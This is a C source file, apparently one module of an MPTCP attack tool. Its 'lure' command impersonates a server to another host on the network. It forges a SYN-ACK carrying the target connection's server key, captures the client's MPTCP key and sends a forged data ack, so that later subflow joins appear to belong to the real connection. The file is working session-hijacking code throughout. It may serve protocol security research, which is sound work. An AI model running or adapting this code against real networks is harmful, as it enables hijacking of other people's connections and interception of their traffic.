// SPDX-License-Identifier: GPL-2.0-only
/*
 * Another host with the same external key believes that it connects to the server: the
 * attacker answers in its place, and with its MPTCP key. What that host then sends in a
 * join looks as if it were for the server's connection.
 */
#include <stdio.h>

#include "attacker.h"

#define PATH OTHER_HOST

/* The next segment of that host's, with an option of this subtype */
static uint8_t *hear(uint8_t subtype, int64_t until, struct frame *frame,
		     struct segment *segment)
{
	uint8_t *option;

	while (pump(until, false, frame)) {
		option = parse_segment(frame, segment) ?
				 find_mptcp(segment, subtype) :
				 NULL;
		if (option)
			return option;
	}
	return NULL;
}

static void answer(const struct segment *heard, struct plan *plan)
{
	const struct link *link = &links[PATH][CLIENT];
	struct frame frame;

	plan->from = heard->to;
	plan->to = heard->from;
	plan->ack = heard->seq + heard->payload_len + heard->tcp->syn;
	plan->from_mac = link->mac;
	plan->to_mac = link->peer_mac;
	make_segment(&frame, plan);
	send_frame(link, &frame);
}

/* Its first handshake, with the key of the server of conn=N; then it may open subflows */
bool cmd_lure(void)
{
	struct plan synack = { .flags = TH_SYN | TH_ACK, .seq = random32() };
	struct plan ack = { .flags = TH_ACK, .seq = synack.seq + 1 };
	const struct connection *target = arg_connection("conn");
	int64_t until = now_ms() + 20 * patience_ms;
	struct connection *lured;
	struct segment segment;
	struct frame frame;
	uint8_t *capable, *at;

	lured = target ? add_connection() : NULL;
	if (!lured || !hear(MP_CAPABLE, until, &frame, &segment))
		return false;
	lured->path = PATH;
	lured->ends[CLIENT] = segment.from;
	lured->ends[SERVER] = segment.to;
	lured->keys[SERVER] = target->keys[SERVER];
	at = put_capable(synack.options, CAPABLE_SYNACK_LEN);
	at = put64(at, lured->keys[SERVER]);
	synack.options_len = (unsigned int)(at - synack.options);
	answer(&segment, &synack);

	/* With its first byte; what is acknowledged there as data makes it sure of MPTCP */
	do
		capable = hear(MP_CAPABLE, until, &frame, &segment);
	while (capable && !segment.payload_len);
	if (!capable)
		return false;
	lured->keys[CLIENT] = get64(capable + 4);
	lured->has_keys = true;
	at = ack.options;
	*at++ = MPTCP_KIND;
	*at++ = 12;
	*at++ = MP_DSS << 4;
	*at++ = 0x3; /* data ack of 8 bytes */
	at = put64(at,
		   key_first_dsn(lured->keys[CLIENT]) + segment.payload_len);
	ack.options_len = (unsigned int)(at - ack.options);
	answer(&segment, &ack);
	printf(" lured=1");
	return true;
}
